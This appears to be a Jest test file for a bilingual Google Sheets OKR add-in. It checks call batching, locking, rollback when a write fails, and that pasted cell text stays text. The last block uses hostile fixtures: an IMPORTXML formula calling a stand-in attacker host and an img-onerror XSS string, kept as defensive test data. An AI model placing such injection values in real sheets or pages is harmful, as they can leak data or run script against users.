/**
 * What must hold whatever happens: constant call counts, one command at a time, faults halfway undone, and text
 * copied as text. All through the built bundle.
 */
import * as fx from '../../fixtures/sheets';
import { loadProject, plain, type LoadedProject } from './harness';

const run = (p: LoadedProject, cmd: string) =>
  plain(p.call('panelRun', cmd)) as { ok: boolean; summary: { en: string; zh: string }; details?: any };
const everything = (p: LoadedProject) =>
  plain({ names: p.book.sheets.map((s) => s.name), sheets: p.book.sheets.map((s) => s.state()) });

describe('Spreadsheet service calls per command do not grow with the rows', () => {
  const COMMANDS = ['convert', 'validate', 'clear', 'score', 'rollForward', 'summary'];

  function callsPerCommand(n: number): Record<string, { calls: number; counts: Record<string, number> }> {
    const name = `Generated ${n}`;
    // No recalculation here: the counts do not depend on formula values, and 20,000 formulas per read are slow.
    // The same kinds of content at both sizes: one unreadable current value, so validate has something to flag.
    const grid = fx.generatedTable(n);
    grid[1][10] = 'about half';
    const p = loadProject({ evaluate: undefined }, (b) => b.addSheet(name, grid));
    const out: Record<string, { calls: number; counts: Record<string, number> }> = {};
    for (const cmd of COMMANDS) {
      p.book.active = p.book.sheet(name);
      p.book.log.reset();
      const res = run(p, cmd);
      expect([cmd, res.ok]).toEqual([cmd, true]);
      out[cmd] = { calls: p.book.log.documentCalls(), counts: { ...p.book.log.counts } };
    }
    return out;
  }

  test('100 rows and 10,000 rows make the same number of calls for every command; the batching rules hold', () => {
    const small = callsPerCommand(100);
    const large = callsPerCommand(10000);
    const calls = (m: typeof small) => Object.fromEntries(Object.entries(m).map(([k, v]) => [k, v.calls]));
    expect(calls(large)).toEqual(calls(small));
    for (const cmd of COMMANDS) {
      const c = (m: string) => small[cmd].counts[m] ?? 0;
      // Asked for once per command: the spreadsheet, its time zone, its sheets; no sheet looked up by name again.
      expect([
        cmd,
        c('SpreadsheetApp.getActiveSpreadsheet'),
        c('Spreadsheet.getSpreadsheetTimeZone'),
        c('Spreadsheet.getSheets'),
      ]).toEqual([cmd, 1, 1, 1]);
      expect([cmd, c('Spreadsheet.getSheetByName')]).toEqual([cmd, 0]);
      // No per-column width loop, no per-dropdown validation call, no per-range rule lookups.
      expect([cmd, c('Sheet.setColumnWidth'), c('Range.setDataValidation')]).toEqual([cmd, 0, 0]);
      expect([cmd, c('Range.setDataValidations') <= 2, c('Sheet.setConditionalFormatRules') <= 2]).toEqual([
        cmd,
        true,
        true,
      ]);
    }
    // Commands that touch one sheet's cells stay within 25 calls.
    for (const cmd of ['validate', 'clear', 'summary']) expect([cmd, small[cmd].calls <= 25]).toEqual([cmd, true]);
  });

  test('convert reads the sheet with one getValues and writes each block with one call', () => {
    const p = loadProject({}, (b) => b.addSheet('G', fx.generatedTable(10000)));
    run(p, 'convert');
    const c = p.book.log.counts;
    expect(c['Range.getValues']).toBe(1);
    expect(c['Range.getFormulas'] ?? 0).toBeLessThanOrEqual(1);
    const s = p.book.sheet('G');
    const scoreCol = s.values()[0].findIndex((h) => /score/i.test(String(h)));
    // native Sheets formulas: no Apps Script execution per cell (issue 13)
    expect(s.formulaAt(10000, scoreCol)).toMatch(/^=LET\(/);
    expect(s.formulaAt(1, scoreCol)).toMatch(/^=LET\(/);
    // KR 9995 (0-based row 9996): 9995 mod 5 = 0 -> increase 0 -> 100, current 9995 mod 101 = 97
    expect(s.valueAt(9996, scoreCol)).toBeCloseTo(0.97, 10);
    // KR 9998: stay below 4.5 with current 4.8 -> 0
    expect(s.valueAt(9999, scoreCol)).toBe(0);
    // KR 0: increase 0 -> 100, current 0 -> 0; KR 5: increase, current 5 -> 0.05
    expect(s.valueAt(6, scoreCol)).toBeCloseTo(0.05, 10);
  });
});

describe('one command at a time (LockService)', () => {
  test('a second run while another holds the lock gets a clear message and changes nothing', () => {
    const p = loadProject({}, (b) => b.addSheet('Q4 OKRs', fx.englishTable));
    const before = everything(p);
    p.fake.lock.heldElsewhere = true;
    const res = run(p, 'score');
    expect(res.ok).toBe(false);
    expect(res.summary.en).toMatch(/still running/i);
    expect(res.summary.zh).toMatch(/仍在运行/);
    expect(everything(p)).toEqual(before);
    p.fake.lock.heldElsewhere = false;
    expect(run(p, 'score').ok).toBe(true);
    expect(p.fake.lock.held).toBe(false); // released after the run
  });

  test('from the menu, the busy message is an alert in the spreadsheet language', () => {
    const p = loadProject({ locale: 'zh_CN' }, (b) => b.addSheet('Q4 OKRs', fx.englishTable));
    p.fake.lock.heldElsewhere = true;
    p.call('menuScore');
    expect(p.fake.ui.alerts).toHaveLength(1);
    expect(p.fake.ui.alerts[0].prompt).toMatch(/仍在运行/);
  });
});

describe('a service call failing halfway leaves the sheet as it was', () => {
  const WRITES = [
    'Range.setValues',
    'Range.setNumberFormats',
    'Range.setDataValidation',
    'Sheet.setConditionalFormatRules',
    'Range.setBackgrounds',
    'Range.setNotes',
    'Sheet.setFrozenRows',
    'Range.setFontWeight',
    'Range.applyRowBanding',
    'Spreadsheet.insertSheet',
  ];

  const cases: [string, string, () => LoadedProject][] = [];
  const english = () => loadProject({}, (b) => b.addSheet('Q4 OKRs', fx.englishTable));
  const messy = () => loadProject({}, (b) => b.addSheet('运营部', fx.messySheet, { formulas: fx.messyFormulas }));
  const outline = () => loadProject({}, (b) => b.addSheet('10月OKR', fx.chineseOutline));
  const converted = () => {
    const p = english();
    run(p, 'convert');
    return p;
  };
  for (const [label, make, cmd] of [
    ['English table', english, 'convert'],
    ['messy sheet', messy, 'convert'],
    ['Chinese outline', outline, 'convert'],
    ['converted grid', converted, 'validate'],
    ['converted grid', converted, 'score'],
    ['converted grid', converted, 'rollForward'],
  ] as const) {
    for (const method of WRITES) cases.push([`${cmd} on ${label}`, method, () => Object.assign(make(), { cmd })]);
  }

  test.each(cases)('%s, %s fails halfway', (_label, method, make) => {
    const probe = make() as LoadedProject & { cmd: string };
    probe.book.log.reset();
    expect(run(probe, probe.cmd).ok).toBe(true);
    const calls = probe.book.log.count(method);
    if (calls === 0) return; // this command does not use the method: nothing to break
    const p = make() as LoadedProject & { cmd: string };
    const before = everything(p);
    p.book.log.failOn({ method, nth: Math.ceil(calls / 2) });
    const res = run(p, p.cmd);
    expect(res.ok).toBe(false);
    expect(res.summary.en).toMatch(/could not be completed/i);
    expect(res.summary.en).toContain(method.split('.')[1]);
    expect(res.summary.zh).toMatch(/已恢复原样/);
    expect(everything(p)).toEqual(before);
  });

  test('from the menu the user sees what failed in an alert', () => {
    const p = english();
    p.book.log.failOn({ method: 'Range.setValues', nth: 1, message: 'Service Spreadsheets timed out' });
    p.call('menuConvert');
    expect(p.fake.ui.alerts).toHaveLength(1);
    expect(p.fake.ui.alerts[0].prompt).toMatch(/timed out/);
    expect(p.fake.ui.alerts[0].prompt).toMatch(/put back/);
  });

  test('when putting the sheet back fails too, the user is told to use Undo / Version history', () => {
    const p = english();
    p.book.log.failOn({ method: 'Range.setValues', nth: 1 });
    p.book.log.failOn({ method: 'Range.setValues', nth: 2, message: 'quota exceeded' });
    const res = run(p, 'convert');
    expect(res.ok).toBe(false);
    expect(res.summary.en).toMatch(/putting the sheet back also failed \(quota exceeded\)/);
    expect(res.summary.en).toMatch(/Version history/);
    expect(res.summary.zh).toMatch(/版本记录/);
  });

  test('a formula on a sheet read by its values alone (the scorecard) comes back as a formula, whichever write fails', () => {
    // Sheets other than the one a command works on are read without their formulas (one call); those of the cells a
    // write covers are read just before it, and a sheet the failed run never wrote is not written back at all.
    const make = () => {
      const p = converted();
      expect(run(p, 'score').ok).toBe(true);
      const card = p.book.sheets.find((s) => /^Scorecard /.test(s.name))!;
      card.getRange(2, 2).setFormulas([['=UPPER("kept as a formula")']]);
      p.book.active = p.book.sheet('Q4 OKRs');
      return p;
    };
    const probe = make();
    probe.book.log.reset();
    expect(run(probe, 'score').ok).toBe(true);
    const writes = probe.book.log.count('Range.setValues');
    expect(writes).toBeGreaterThan(1);
    for (let nth = 1; nth <= writes; nth++) {
      const p = make();
      const before = everything(p);
      p.book.log.failOn({ method: 'Range.setValues', nth });
      expect([nth, run(p, 'score').ok]).toEqual([nth, false]);
      expect(everything(p)).toEqual(before);
    }
  });

  test('a failing read changes nothing and says so', () => {
    const p = english();
    const before = everything(p);
    p.book.log.failOn({ method: 'Range.getValues', nth: 1 });
    const res = run(p, 'convert');
    expect(res.ok).toBe(false);
    expect(res.summary.en).toMatch(/could not read/i);
    expect(everything(p)).toEqual(before);
  });
});

describe('text copied from cells stays text', () => {
  const HOSTILE = '=IMPORTXML("http://attacker.example/x","//a")';
  const IMG = '<img src=x onerror=alert(1)>';
  const grid = fx.englishTable.map((r) => r.slice());
  grid[10][4] = HOSTILE; // KR-201's title, as text the user pasted
  grid[9][3] = '+SUM(1,2)';
  grid[9][2] = IMG;
  const p = loadProject({}, (b) => b.addSheet('Q4 OKRs', grid));

  test('convert, score and roll forward never turn it into a formula, and the copies keep the exact text', () => {
    expect(run(p, 'convert').ok).toBe(true);
    expect(run(p, 'score').ok).toBe(true);
    p.book.active = p.book.sheet('Q4 OKRs');
    expect(run(p, 'rollForward').ok).toBe(true);
    for (const s of p.book.sheets) {
      s.grid.forEach((row) => row.forEach((cell) => expect(cell.formula).not.toMatch(/IMPORTXML|SUM\(1|onerror/)));
    }
    const hist = p.book.sheet('OKR History').values().flat();
    expect(hist).toContain(HOSTILE);
    expect(hist).toContain(IMG);
    const next = p.book.sheets
      .find((s) => /2027-Q1/.test(s.name))!
      .values()
      .flat();
    expect(next).toContain(HOSTILE);
    expect(next).toContain('+SUM(1,2)');
  });

  test('numbers-looking text written by the add-in is not converted by Sheets either', () => {
    // IDs and cycle ids are text (e.g. '2026-Q4' stays text, not a date; 'KR-101' stays text)
    const hist = p.book.sheet('OKR History').values();
    const cycleCol = hist[0].findIndex((h) => /cycle/i.test(String(h)));
    for (const r of hist.slice(1)) expect(typeof r[cycleCol]).toBe('string');
  });
});
